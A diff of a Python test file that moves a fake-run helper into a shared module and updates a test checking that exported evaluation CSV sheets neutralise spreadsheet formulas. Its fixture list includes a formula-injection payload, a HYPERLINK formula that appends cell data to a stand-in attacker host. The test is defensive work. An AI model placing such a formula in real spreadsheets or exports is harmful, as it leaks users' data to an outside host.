@@ -17,6 +17,7 @@ from muri_gen.recipe import RecipeError, load_recipe
 from muri_gen.runner import run_recipe
 from muri_gen.runner.layout import RunDir, safe_part
 from muri_gen.yaml_lines import LineLoader
+from tests.export_fakerun import write_run
 from tests.llm_fault_stub import FaultStub
 
 ROOT = Path(__file__).resolve().parents[1]
@@ -223,24 +224,11 @@ FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1", "-2+3"
             "'=already quoted"]
 
 
-def fake_run(root: Path, rows: list[dict]) -> RunDir:
-    """A finished run folder holding ``rows`` as its kept pairs (the layout the runner writes)."""
-    from muri_gen.runner.layout import jsonl_bytes, write_atomic
-
-    run = RunDir(root)
-    run.create()
-    for segment in (0, 1):
-        run.segment_dir(segment).mkdir(parents=True)
-    write_atomic(run.split_marker, b"1")
-    write_atomic(run.shard_path(1, 0), jsonl_bytes(rows))
-    return run
-
-
 def test_eval_sheets_never_hold_a_cell_a_spreadsheet_would_run(tmp_path):
     from muri_gen.report.evaluation import export_sheets, read_ratings
 
     rows = [{"id": value, "language": "spa", "text": value, "instruction": value} for value in FORMULAS]
-    run = fake_run(tmp_path / "run", rows)
+    run = write_run(tmp_path / "run", rows)
     sheet = next(p for p in export_sheets(run, tmp_path / "sheets", per_lang=50) if p.suffix == ".csv")
     with open(sheet, encoding="utf-8", newline="") as fh:
         cells = [cell for row in csv.reader(fh) for cell in row]
